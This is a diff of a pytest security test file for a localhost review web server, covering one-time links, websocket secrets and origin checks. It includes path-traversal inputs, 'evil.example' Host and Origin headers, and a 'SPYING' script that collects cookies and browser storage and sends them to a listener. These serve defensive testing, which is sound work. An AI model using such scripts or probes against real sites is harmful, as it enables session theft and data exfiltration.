@@ -1,12 +1,14 @@
 """A reviewer who has a browser and no terminal: one link, for one person, that nobody else gets through."""
 
 import http.client
+import http.server
 import json
 import os
 import re
 import signal
 import subprocess
 import sys
+import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
@@ -16,6 +18,8 @@ import pytest
 
 from tests.tui.cli.browser import Browser
 
+MINE, OTHERS = "0123456789ab" * 4, "cdef01234567" * 4
+"""Secrets as tabs make them up."""
 START = "from foureyes_start import main; main()"
 
 
@@ -31,48 +35,71 @@ def served(docket: Path, *options: str) -> Iterator[str]:
             assert process.wait(30) == 0
 
 
-def ask(link: str, path: str = "", **headers: str) -> tuple[int, str, http.client.HTTPMessage]:
+def ask(link: str, path: str = "/", **headers: str) -> tuple[int, str, http.client.HTTPMessage]:
     """The status, body and headers of an answer; nothing is followed."""
-    at = urlsplit(link)
-    connection = http.client.HTTPConnection(at.netloc, timeout=30)
+    connection = http.client.HTTPConnection(urlsplit(link).netloc, timeout=30)
     try:
-        connection.request("GET", path or f"{at.path}?{at.query}", headers=headers)
+        connection.request("GET", path, headers={name.replace("_", "-"): said for name, said in headers.items()})
         answer = connection.getresponse()
-        return answer.status, answer.read().decode("utf-8", "replace"), answer.headers
+        return answer.status, "" if answer.status == 101 else answer.read().decode("utf-8", "replace"), answer.headers
     finally:
         connection.close()
 
 
-def cookie_of(link: str) -> str:
-    """What the browser gets for the token."""
-    status, _, headers = ask(link)
-    assert (status, headers["Location"]) == (303, "/")
-    assert re.search("HttpOnly.*SameSite=Strict", headers["Set-Cookie"])
-    return headers["Set-Cookie"].partition(";")[0]
+def join(link: str, secret: str, **headers: str) -> int:
+    """The status of the answer to a tab of the page that opens its socket."""
+    at = urlsplit(link)
+    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec_WebSocket_Version": "13"}
+    upgrade |= {"Sec_WebSocket_Key": "x" * 22 + "==", "Origin": f"http://{at.netloc}", **headers}
+    return ask(link, f"/ws/{at.fragment}/{secret}", **{name: said for name, said in upgrade.items() if said})[0]
 
 
 def test_the_link_opens_once(docket):
     with served(docket) as link:
-        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/\?token=[\w-]{32}", link)
-        cookie = cookie_of(link)
-        assert ask(link)[0] == 403
-        assert ask(link, Cookie=cookie)[0] == 403
-        status, page, headers = ask(link, "/", Cookie=cookie)
-        assert status == 200
-        assert "data-session-websocket-url" in page
-        assert "http" not in page.replace(f"ws://{urlsplit(link).netloc}", "").replace(
-            f"http://{urlsplit(link).netloc}", ""
-        )
-        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
-        assert headers["Cache-Control"] == "no-store"
+        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/#[\w-]{32}", link)
+        assert join(link, MINE) == 101
+        assert join(link, OTHERS) == 403
+        assert join(link, MINE) == 101  # the tab is loaded again
 
 
-@pytest.mark.parametrize("path", ["/", "/ws", "/static/js/textual.js", "/?token=", "/?token=wrong", "/download/x"])
-def test_without_the_cookie_nothing_is_answered(docket, path):
+def test_a_secret_that_is_easily_guessed_or_comes_with_another_token_uses_nothing_up(docket):
     with served(docket) as link:
-        assert ask(link, path)[0] == 403
-        assert ask(link, path, Cookie="foureyes=wrong")[0] == 403
-        cookie_of(link)  # and a wrong token has not used it up
+        for weak in ("", "null", "undefined", "0", MINE[1:], MINE.upper(), f"{MINE}%0A", "%C3%A4" * 48):
+            assert join(link, weak) == 403
+        for token in ("", "null", "wrong", "%C3%A4", urlsplit(link).fragment[1:]):
+            assert join(f"{link.partition('#')[0]}#{token}", MINE) == 403
+        assert join(link, OTHERS) == 101
+
+
+def test_the_page_and_its_files_say_nothing_of_docket_or_reviewer_and_ask_no_other_host(docket):
+    with served(docket) as link:
+        assert join(link, MINE) == 101
+        for path in ("/", "/page/session.js", "/page/index.html", "/static/js/textual.js"):
+            status, said, headers = ask(link, path)
+            assert status == 200
+            for told in (urlsplit(link).fragment, MINE, docket.name, "ana<"):
+                assert told not in said
+            assert path.startswith("/static") or "http" not in said
+            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
+            assert (headers["Cache-Control"], headers["Set-Cookie"]) == ("no-store", None)
+
+
+@pytest.mark.parametrize(
+    "path", ["/static/", "/static/js", "/page", "/page/", "/page/../web_server.py", "/page/%2e%2e/web_server.py"]
+)
+def test_no_folder_is_listed_and_nothing_beside_it_is_served(docket, path):
+    with served(docket) as link:
+        status, said, headers = ask(link, path)
+        assert status in (403, 404)
+        assert len(said) < 100
+        assert headers["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize("path", ["/ws", "/ws/", "/ws/x", "/ws/x/y/z", "/ws/x/y"])
+def test_without_its_secret_the_screen_is_closed(docket, path):
+    with served(docket) as link:
+        assert ask(link, path, Origin=f"http://{urlsplit(link).netloc}")[0] == 403
+        assert join(link, MINE) == 101
 
 
 def test_what_comes_from_another_page_is_refused(docket):
@@ -80,18 +107,22 @@ def test_what_comes_from_another_page_is_refused(docket):
         here = urlsplit(link).netloc
         assert ask(link, Host="evil.example")[0] == 403
         assert ask(link, Origin="http://evil.example")[0] == 403
-        cookie = cookie_of(link)
-        assert ask(link, "/", Cookie=cookie, Host="evil.example")[0] == 403
-        upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
-        upgrade["Sec-WebSocket-Key"] = "x" * 22 + "=="
-        for origin in ({}, {"Origin": "http://evil.example"}, {"Origin": f"https://{here}"}):
-            assert ask(link, "/ws", Cookie=cookie, **upgrade, **origin)[0] == 403
+        assert join(link, MINE) == 101
+        assert join(link, MINE, Host="evil.example") == 403
+        for origin in ("", "null", "http://evil.example", "http://127.0.0.1:1", f"https://{here}"):
+            assert join(link, MINE, Origin=origin) == 403
+
+
+def test_a_name_for_this_machine_becomes_the_number_that_is_listened_at(docket):
+    with served(docket, "--host", "localhost") as link:
+        assert re.fullmatch(r"(127\.0\.0\.1|\[::1\]):\d+", urlsplit(link).netloc)
+        assert join(link, MINE) == 101
 
 
 def test_whoever_may_not_review_gets_no_link(cli, docket):
     ran = cli("web", docket, "--reviewer", "Not A Name")
     assert ran.code == 2
-    assert "token" not in ran.out
+    assert ran.out == ""
     ran = cli("web", docket, "--reviewer", "ana", "--host", "203.0.113.1")
     assert ran.code == 1
     assert "cannot be listened at" in ran.err
@@ -115,3 +146,75 @@ def test_a_vote_from_a_browser(cli, docket, tmp_path):
 
         assert browser.wait_until(sent)
         (Path(os.environ.get("FOUREYES_PICTURES", tmp_path)) / "web.png").write_bytes(browser.picture())
+
+
+class Listener(http.server.ThreadingHTTPServer):
+    """Another user's program that listens on another port of this machine; it keeps what it is told."""
+
+    def __init__(self, page: str = "") -> None:
+        self.heard: list[str] = []
+        self.page = page.encode()
+        super().__init__(("127.0.0.1", 0), _Hearing)
+        self.url = f"http://127.0.0.1:{self.server_port}/"
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    def server_close(self) -> None:
+        self.shutdown()
+        super().server_close()
+
+
+class _Hearing(http.server.BaseHTTPRequestHandler):
+    server: Listener
+
+    def do_GET(self) -> None:
+        self.server.heard.append(f"{self.requestline}\n{self.headers}")
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.server.page)
+
+    def log_message(self, *_: object) -> None: ...
+
+
+SPYING = """<script>
+let heard = [document.cookie, document.referrer, JSON.stringify(sessionStorage), JSON.stringify(localStorage)];
+const tell = () => fetch("/told/" + encodeURIComponent(heard.join("|")));
+fetch("%(other)s").then((one) => one.text()).then((text) => heard.push("READ" + text), () => {}).then(() => {
+  const socket = new WebSocket("%(socket)s");
+  socket.onopen = () => { heard.push("OPENED"); tell(); };
+  socket.onerror = tell;
+});
+</script>"""
+
+
+@pytest.mark.needs("chromium")
+def test_who_listens_on_another_port_learns_nothing_and_two_links_stay_open_beside_one_another(docket, tmp_path):
+    with served(docket) as one, served(docket) as two, Listener() as listener, Browser(tmp_path) as browser:
+        for link in (one, two):
+            browser.open(link)
+            browser.wait_for_pixels()
+            assert browser.value("location.href") == f"http://{urlsplit(link).netloc}/"
+        secret = browser.value("sessionStorage.getItem('secret')")
+        assert re.fullmatch("[0-9a-f]{48}", secret)
+        at = urlsplit(two)
+        listener.page = (SPYING % {"other": f"http://{at.netloc}/", "socket": f"ws://{at.netloc}/ws/x/y"}).encode()
+        browser.open(listener.url)
+        assert browser.wait_until(lambda: any("/told/" in said for said in listener.heard))
+        told = "".join(listener.heard)
+        for used in ("Cookie", "READ", "OPENED", at.netloc, secret, at.fragment, urlsplit(one).fragment):
+            assert used not in told
+        for link in (one, two):
+            browser.open(f"http://{urlsplit(link).netloc}/")  # the tab comes back: each is as it was
+            browser.wait_for_pixels()
+        browser.open(one)
+        assert browser.wait_until(lambda: browser.value("location.hash") == "")
+        browser.wait_for_pixels()
+
+
+@pytest.mark.needs("chromium")
+def test_a_link_that_was_opened_already_says_so(docket, tmp_path):
+    with served(docket) as link, Browser(tmp_path) as browser:
+        assert join(link, MINE) == 101
+        browser.open(link)
+        shown = "getComputedStyle(document.querySelector('.refused')).display"
+        assert browser.wait_until(lambda: browser.value(shown) == "flex")
